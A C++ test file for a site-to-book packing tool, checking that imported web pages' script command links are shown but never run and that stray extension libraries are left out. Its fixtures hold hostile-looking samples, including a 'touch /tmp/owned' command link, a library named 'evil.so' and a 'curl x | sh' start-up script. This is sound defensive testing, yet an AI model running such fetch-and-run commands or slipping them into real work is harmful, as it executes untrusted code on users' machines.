// A site imported with quire-pack is a web page to the reader: its script links are shown,
// never run, and the libraries found in it are left out; a book.ini (the author's word)
// decides otherwise. Every build says what the book will be able to run.
#include "tools/pack_cli_fixture.h"

namespace quire::pack_tests {
namespace {

constexpr char kLinksWarning[] =
    "quire-pack: warning: 2 pages or scripts hold script links (##, #!, #@); the book shows "
    "them and never runs them, as a site without book.ini is made of web pages. To let them "
    "run, set \"page-commands = yes\" in [book] of a book.ini";

class SiteTrustTest : public PackCliTest {
 protected:
  // A downloaded site: a page whose script runs a program through a command link the
  // moment it is shown, a page with an ordinary link, a library, and a page of text that
  // merely mentions a marker.
  void WriteSite(const std::string& dir) {
    Write(dir + "/index.html",
          "<title>Docs</title><script src=\"app.js\"></script><p>Start</p>"
          "<a href=\"guide.html\">guide</a>");
    Write(dir + "/app.js", "location.hash = \"##RUN('sh -c \\\"touch /tmp/owned\\\"')\";\n");
    Write(dir + "/guide.html",
          "<title>Guide</title><a href=\"&#35;&#35;FILEWRITE('x','y')\">save</a>");
    Write(dir + "/rust.html", "<title>Rust</title><pre>#![feature(test)] ## heading</pre>");
    fs::copy_file(LibraryFile(), Path(dir + "/__pxa__evil.so"));
  }

  static std::string LibraryFile() {
#ifdef QUIRE_EXAMPLE_EXT_PATH
    return QUIRE_EXAMPLE_EXT_PATH;
#else
    return testing::ReaderPath();
#endif
  }

  RunResult BuildSite(const std::string& dir, std::vector<std::string> extra = {}) {
    std::vector<std::string> args = {
        "build", Path(dir), "-o", Path(dir + ".book"), "--reader", testing::ReaderPath()};
    args.insert(args.end(), extra.begin(), extra.end());
    return Pack(args);
  }

  JsonValue ListJson(const std::string& book) {
    RunResult listed = Pack({"list", Path(book), "--json"});
    EXPECT_EQ(listed.exitCode, 0) << listed.err;
    auto json = ParseJson(listed.out);
    EXPECT_TRUE(json.has_value()) << listed.out;
    return json ? *json : JsonValue{};
  }

  static std::vector<std::string> FileNames(const JsonValue& json) {
    std::vector<std::string> names;
    for (const JsonValue& file : json["files"].items)
      names.push_back(file["name"].text);
    return names;
  }

  static std::vector<std::string> PowerLines(const std::string& out) {
    std::vector<std::string> lines;
    const size_t at = out.find("What the book can run:\n");
    for (size_t start = at; start != std::string::npos && start < out.size();) {
      const size_t end = out.find('\n', start);
      lines.push_back(out.substr(start, end - start));
      start = end == std::string::npos ? end : end + 1;
    }
    return lines;
  }
};

TEST_F(SiteTrustTest, ImportedSiteRunsNoCommandsAndBringsNoLibrary) {
  WriteSite("site");
  RunResult r = BuildSite("site");
  ASSERT_EQ(r.exitCode, 0) << r.err;
  EXPECT_NE(r.err.find("quire-pack: warning: " + Path("site/__pxa__evil.so") +
                       ": extension library left out: a site without book.ini brings no "
                       "libraries for the reader to load (name it as [file:__pxa__evil.so] in "
                       "a manifest, or give it with --add, to keep it)"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find(kLinksWarning), std::string::npos) << r.err;
  EXPECT_EQ(
      PowerLines(r.out),
      (std::vector<std::string>{
          "What the book can run:", "  start-up script:     none", "  exit script:         none",
          "  script links:        2 pages or scripts hold them; shown, never run "
          "(page-commands = no)",
          "  extension libraries: none"}));
  const JsonValue json = ListJson("site.book");
  EXPECT_EQ(json["pageCommands"].kind, JsonValue::Kind::kBool);
  EXPECT_FALSE(json["pageCommands"].boolean);
  // The site's own files, and the text the search reads; no library.
  EXPECT_EQ(FileNames(json), (std::vector<std::string>{"app.js", "guide.html", "index.html",
                                                       "rust.html", "__search.text"}));
  RunResult text = Pack({"list", Path("site.book")});
  EXPECT_NE(text.out.find("\n  page-commands = no\n"), std::string::npos) << text.out;
}

// The author's word: a manifest given with --manifest may name the library or let the
// links run; --add keeps a library as well.
TEST_F(SiteTrustTest, AManifestOrAddKeepsWhatItNames) {
  WriteSite("site");
  Write("named.ini", "[file:__pxa__evil.so]\n");
  RunResult named = BuildSite("site", {"--manifest", Path("named.ini")});
  ASSERT_EQ(named.exitCode, 0) << named.err;
  EXPECT_EQ(named.err.find("left out"), std::string::npos) << named.err;
  JsonValue json = ListJson("site.book");
  EXPECT_FALSE(json["pageCommands"].boolean);
  EXPECT_EQ(FileNames(json).front(), "__pxa__evil.so");
  EXPECT_EQ(PowerLines(named.out).back(), "  extension libraries: __pxa__evil.so");

  Write("allowed.ini", "[book]\npage-commands = yes\n");
  RunResult allowed = BuildSite("site", {"--manifest", Path("allowed.ini")});
  ASSERT_EQ(allowed.exitCode, 0) << allowed.err;
  EXPECT_EQ(allowed.err.find("script links"), std::string::npos) << allowed.err;
  EXPECT_TRUE(ListJson("site.book")["pageCommands"].boolean);
  EXPECT_EQ(PowerLines(allowed.out)[3],
            "  script links:        2 pages or scripts hold them; they run (page-commands = yes)");

  fs::copy_file(LibraryFile(), Path("__pxa__added.so"));
  RunResult added = BuildSite("site", {"--add", Path("__pxa__added.so")});
  ASSERT_EQ(added.exitCode, 0) << added.err;
  EXPECT_EQ(PowerLines(added.out).back(), "  extension libraries: __pxa__added.so");
}

// A folder that holds a book.ini is the author's book source: its settings apply as
// written, and the summary says what they let the book do, the start-up script first.
TEST_F(SiteTrustTest, BookIniThatCameWithASiteIsNamedInTheSummary) {
  WriteSite("source");
  Write("source/book.ini",
        "[book]\nstartup-script = sh -c \"curl x | sh\"\nexit-script = #!bye.txt\n");
  Write("source/bye.txt", "EXIT()");
  RunResult r = BuildSite("source");
  ASSERT_EQ(r.exitCode, 0) << r.err;
  EXPECT_EQ(r.err.find("left out"), std::string::npos) << r.err;
  EXPECT_EQ(PowerLines(r.out),
            (std::vector<std::string>{
                "What the book can run:", "  start-up script:     sh -c \"curl x | sh\"",
                "  exit script:         #!bye.txt",
                "  script links:        2 pages or scripts hold them; they run (page-commands = "
                "yes)",
                "  extension libraries: __pxa__evil.so"}));
  EXPECT_TRUE(ListJson("source.book")["pageCommands"].boolean);
}

// extract --manifest writes the record, so a build of the extracted folder makes the same
// book: its pages still run nothing.
TEST_F(SiteTrustTest, ExtractedSiteBuildsBackToABookWhosePagesRunNothing) {
  WriteSite("site");
  ASSERT_EQ(BuildSite("site").exitCode, 0);
  RunResult x = Pack({"extract", Path("site.book"), Path("out"), "--manifest"});
  ASSERT_EQ(x.exitCode, 0) << x.err;
  EXPECT_NE(ReadWholeFile(Path("out/book.ini"))->find("\npage-commands = no\n"), std::string::npos);
  RunResult again = BuildSite("out");
  ASSERT_EQ(again.exitCode, 0) << again.err;
  EXPECT_NE(again.err.find("as its manifest says page-commands = no"), std::string::npos)
      << again.err;
  EXPECT_FALSE(ListJson("out.book")["pageCommands"].boolean);
}

// Two different sites whose folders share a name (every Sphinx build is "html") get
// different ESBNs and ids, the same ones on every rebuild.
TEST_F(SiteTrustTest, TwoHtmlFoldersMakeBooksOfDifferentIds) {
  Write("python/html/index.html", "<title>Python documentation</title>");
  Write("postgres/html/index.html", "<title>PostgreSQL documentation</title>");
  for (const char* site : {"python/html", "postgres/html"})
    ASSERT_EQ(BuildSite(site).exitCode, 0);
  const JsonValue python = ListJson("python/html.book");
  const JsonValue postgres = ListJson("postgres/html.book");
  EXPECT_NE(python["bookId"].text, postgres["bookId"].text);
  EXPECT_NE(python["settings"]["esbn"].text, postgres["settings"]["esbn"].text);
  EXPECT_EQ(python["bookId"].text.rfind("html-", 0), 0u) << python["bookId"].text;
  ASSERT_EQ(BuildSite("python/html").exitCode, 0);
  EXPECT_EQ(ListJson("python/html.book")["bookId"].text, python["bookId"].text);
}

}  // namespace
}  // namespace quire::pack_tests
